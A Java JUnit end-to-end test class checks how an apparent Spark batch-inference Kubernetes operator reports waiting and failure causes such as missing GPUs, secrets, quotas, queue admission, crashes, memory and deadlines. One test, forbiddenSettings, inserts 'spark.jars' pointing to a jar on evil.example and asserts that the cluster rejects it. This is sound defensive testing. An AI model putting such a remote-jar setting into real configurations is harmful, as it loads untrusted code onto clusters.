package dev.sparkinfer.e2e;

import static dev.sparkinfer.e2e.Workspace.condition;
import static org.assertj.core.api.Assertions.assertThat;

import dev.sparkinfer.api.v1alpha1.BatchInference;
import dev.sparkinfer.api.v1alpha1.BatchInferenceStatus;
import dev.sparkinfer.api.v1alpha1.Phase;
import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.LimitRangeBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.ResourceQuotaBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.client.dsl.base.PatchContext;
import io.fabric8.kubernetes.client.dsl.base.PatchType;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.annotation.Retention;
import java.lang.annotation.RetentionPolicy;
import java.time.Duration;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;
import javax.imageio.ImageIO;
import org.jspecify.annotations.NullUnmarked;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;

/** What a run waits for is said within ten seconds, and it goes on by itself when it comes. */
@NeedsCluster
@NullUnmarked // A null fails the test, as it should.
class WaitingTest {
  private static final Duration SOON = Duration.ofSeconds(10);

  /** A driver's start and the cluster's own delays come before the ten seconds. */
  private static final Duration DRIVER_START = Duration.ofSeconds(60);

  private static final Duration LONG = Duration.ofMinutes(3);

  /**
   * A test that runs beside the others of this class; a class that does would run beside others.
   */
  @Test
  @Execution(ExecutionMode.CONCURRENT)
  @Retention(RetentionPolicy.RUNTIME)
  private @interface SideBySide {}

  private Workspace workspace;

  @BeforeEach
  void open(TestInfo test) {
    workspace =
        Workspace.open(
            test.getTestMethod().orElseThrow().getName().toLowerCase(java.util.Locale.ROOT));
    workspace.uploadPictures();
  }

  @AfterEach
  void close() {
    workspace.close();
  }

  @SideBySide
  void gpus() {
    Cluster.shared().setGpus(0);
    workspace.apply("gpus", "executors.gpus=1");
    workspace.pod("gpus", "executor", "has no node", WaitingTest::unscheduled);
    BatchInferenceStatus waiting =
        workspace.await(
            "gpus",
            SOON,
            "the scheduler's words",
            status ->
                status.executors() != null
                    && status.executors().message() != null
                    && status.executors().message().contains("Insufficient nvidia.com/gpu"));
    assertThat(waiting.executors().pending()).isEqualTo(1);
    assertThat(condition(waiting, "Stalled").getStatus()).isEqualTo("False");

    Cluster.shared().setGpus(2);
    Pod executor = workspace.runningPod("gpus", "executor");
    assertThat(executor.getSpec().getContainers().get(0).getResources().getLimits())
        .containsEntry("nvidia.com/gpu", new Quantity("1"));
    assertThat(executor.getSpec().getAutomountServiceAccountToken()).isFalse();
    BatchInferenceStatus end = workspace.awaitSuccess("gpus", LONG);
    assertThat(condition(end, "Succeeded").getMessage()).contains("SimulatedDevices");
  }

  private static boolean unscheduled(Pod pod) {
    return pod.getStatus().getConditions().stream()
        .anyMatch(
            condition ->
                condition.getType().equals("PodScheduled")
                    && condition.getStatus().equals("False"));
  }

  @SideBySide
  void secret() {
    workspace
        .client()
        .secrets()
        .inNamespace(workspace.name())
        .withName(Workspace.CREDENTIALS)
        .delete();
    workspace.apply("secret");
    Condition missing = workspace.awaitReason("secret", "SecretNotFound", SOON);
    assertThat(missing.getMessage()).contains(Workspace.CREDENTIALS);
    assertThat(condition(workspace.get("secret").getStatus(), "Stalled").getStatus())
        .isEqualTo("False");
    workspace.await(
        "secret",
        Duration.ofSeconds(75),
        "stalled after a minute",
        status -> condition(status, "Stalled").getStatus().equals("True"));

    workspace.store().createCredentials(workspace.name(), Workspace.CREDENTIALS);
    workspace.awaitSuccess("secret", LONG);
  }

  @SideBySide
  void secretKey() {
    workspace
        .client()
        .secrets()
        .inNamespace(workspace.name())
        .withName(Workspace.CREDENTIALS)
        .edit(
            secret -> {
              secret.getData().remove("AWS_SECRET_ACCESS_KEY");
              return secret;
            });
    workspace.apply("key");

    Condition missing = workspace.awaitReason("key", "SecretKeyMissing", SOON);

    assertThat(missing.getMessage()).contains("AWS_SECRET_ACCESS_KEY");
  }

  @SideBySide
  void nodes() {
    workspace.apply("nodes", "driver.nodeSelector.disk=none");

    Condition waiting = workspace.awaitReason("nodes", "Unschedulable", SOON);

    assertThat(waiting.getMessage()).contains("0/1 nodes are available");
  }

  @SideBySide
  void quotaForTheDriver() {
    quota("0");
    workspace.apply("quota");
    assertThat(workspace.awaitReason("quota", "QuotaExceeded", SOON).getMessage())
        .contains("exceeded quota");

    workspace.client().resourceQuotas().inNamespace(workspace.name()).withName("pods").delete();
    workspace.awaitSuccess("quota", LONG);
  }

  @SideBySide
  void quotaForExecutors() {
    quota("1");
    workspace.apply("quota");
    workspace.awaitPhase("quota", Phase.Planning, DRIVER_START);
    workspace.await(
        "quota",
        SOON,
        "the refusal",
        status ->
            status.executors() != null
                && status.executors().message() != null
                && status.executors().message().contains("exceeded quota"));

    workspace.client().resourceQuotas().inNamespace(workspace.name()).withName("pods").delete();
    workspace.awaitSuccess("quota", LONG);
  }

  /** Kueue's part is played by hand: it resumes what it admits. */
  @SideBySide
  void queue() {
    BatchInference resource = workspace.resource("queue");
    resource.getMetadata().setLabels(Map.of("kueue.x-k8s.io/queue-name", "gpus"));
    workspace.client().resource(resource).create();

    Condition waiting = workspace.awaitReason("queue", "Queued", SOON);
    assertThat(waiting.getMessage()).contains("Kueue counts the driver only");
    Job queued = workspace.job("queue");
    assertThat(queued.getMetadata().getLabels()).containsEntry("kueue.x-k8s.io/queue-name", "gpus");
    assertThat(queued.getSpec().getSuspend()).isTrue();
    assertThat(workspace.pods("queue", "driver")).isEmpty();

    admit(queued, true);
    workspace.awaitPhase("queue", Phase.Planning, DRIVER_START);
    admit(queued, false);
    workspace.awaitReason("queue", "Queued", SOON);
    admit(queued, true);
    workspace.awaitSuccess("queue", LONG);

    assertThat(workspace.job("queue").getMetadata().getGeneration())
        .as("nobody but the queue has changed the Job")
        .isEqualTo(queued.getMetadata().getGeneration() + 3);
  }

  private void admit(Job job, boolean admitted) {
    workspace
        .client()
        .resource(job)
        .patch(
            PatchContext.of(PatchType.JSON_MERGE),
            "{\"spec\": {\"suspend\": %b}}".formatted(!admitted));
  }

  @SideBySide
  void driversThatCrash() {
    workspace.apply("crash", "driver.retries=1");
    crashDriver();
    Condition again = workspace.awaitReason("crash", "DriverStarting", SOON);
    assertThat(again.getMessage()).contains("exit code").contains("is started again");
    crashDriver();

    Condition failed = condition(workspace.awaitPhase("crash", Phase.Failed, SOON), "Succeeded");
    assertThat(failed.getReason()).isEqualTo("DriverFailed");
    assertThat(failed.getMessage())
        .contains("exit code")
        .contains("spec.driver.retries is 1")
        .contains("kubectl logs");
  }

  private void crashDriver() {
    workspace.awaitPhase("crash", Phase.Planning, DRIVER_START);
    Cluster.shared().kill(workspace.runningPod("crash", "driver"), "SIGSEGV");
  }

  @SideBySide
  void executorsThatCrash() {
    workspace.apply("crash", "driver.retries=0");
    Set<String> crashed = new HashSet<>();
    BatchInferenceStatus end =
        workspace.await(
            "crash",
            LONG,
            "failed, however often an executor is started",
            status -> {
              workspace.pods("crash", "executor").stream()
                  .filter(pod -> pod.getStatus().getPhase().equals("Running"))
                  .filter(pod -> crashed.add(pod.getMetadata().getName()))
                  .forEach(pod -> Cluster.shared().kill(pod, "SIGSEGV"));
              return status.phase() == Phase.Failed;
            });

    assertThat(crashed).hasSizeGreaterThan(1);
    assertThat(condition(end, "Succeeded").getReason()).isEqualTo("ExecutorsCrash");
    assertThat(condition(end, "Succeeded").getMessage())
        .contains("exit code")
        .contains("kubectl logs");
  }

  private void quota(String pods) {
    workspace
        .client()
        .resource(
            new ResourceQuotaBuilder()
                .withNewMetadata()
                .withName("pods")
                .withNamespace(workspace.name())
                .endMetadata()
                .withNewSpec()
                .withHard(Map.of("pods", new Quantity(pods)))
                .endSpec()
                .build())
        .create();
  }

  @SideBySide
  void admission() {
    workspace
        .client()
        .resource(
            new LimitRangeBuilder()
                .withNewMetadata()
                .withName("small")
                .withNamespace(workspace.name())
                .endMetadata()
                .withNewSpec()
                .addNewLimit()
                .withType("Container")
                .withMax(Map.of("memory", new Quantity("256Mi")))
                .endLimit()
                .endSpec()
                .build())
        .create();
    workspace.apply("admission");

    assertThat(workspace.awaitReason("admission", "PodRejected", SOON).getMessage())
        .contains("maximum memory usage per Container is 256Mi");
  }

  @SideBySide
  void memory() throws IOException {
    ByteArrayOutputStream large = new ByteArrayOutputStream();
    ImageIO.write(new BufferedImage(9500, 9500, BufferedImage.TYPE_INT_RGB), "jpeg", large);
    workspace.store().put("s3://" + workspace.name() + "/images/large.jpg", large.toByteArray());
    workspace.apply("memory", "executors.memory=512Mi", "driver.retries=0");

    Condition failed = condition(workspace.awaitPhase("memory", Phase.Failed, LONG), "Succeeded");

    assertThat(failed.getReason()).isEqualTo("OutOfMemory");
    assertThat(failed.getMessage()).contains("137").contains("spec.executors.memory");
  }

  @SideBySide
  void deadline() {
    workspace.apply("deadline", "activeDeadlineSeconds=5");

    Condition failed = condition(workspace.awaitPhase("deadline", Phase.Failed, LONG), "Succeeded");

    assertThat(failed.getReason()).isEqualTo("DeadlineExceeded");
    assertThat(failed.getMessage()).contains("activeDeadlineSeconds");
  }

  @SideBySide
  void forbiddenSettings() {
    String forbidden =
        Serialization.asYaml(workspace.resource("forbidden"))
            .replace("sparkConf: {}", "sparkConf: {spark.jars: http://evil.example/x.jar}");

    Program.Result answer = Cluster.shared().kubectlWith(forbidden, "create", "-f", "-");

    assertThat(answer.exitCode()).isNotZero();
    assertThat(answer.output()).contains("spec.sparkConf").contains("spark.task.maxFailures");
  }
}
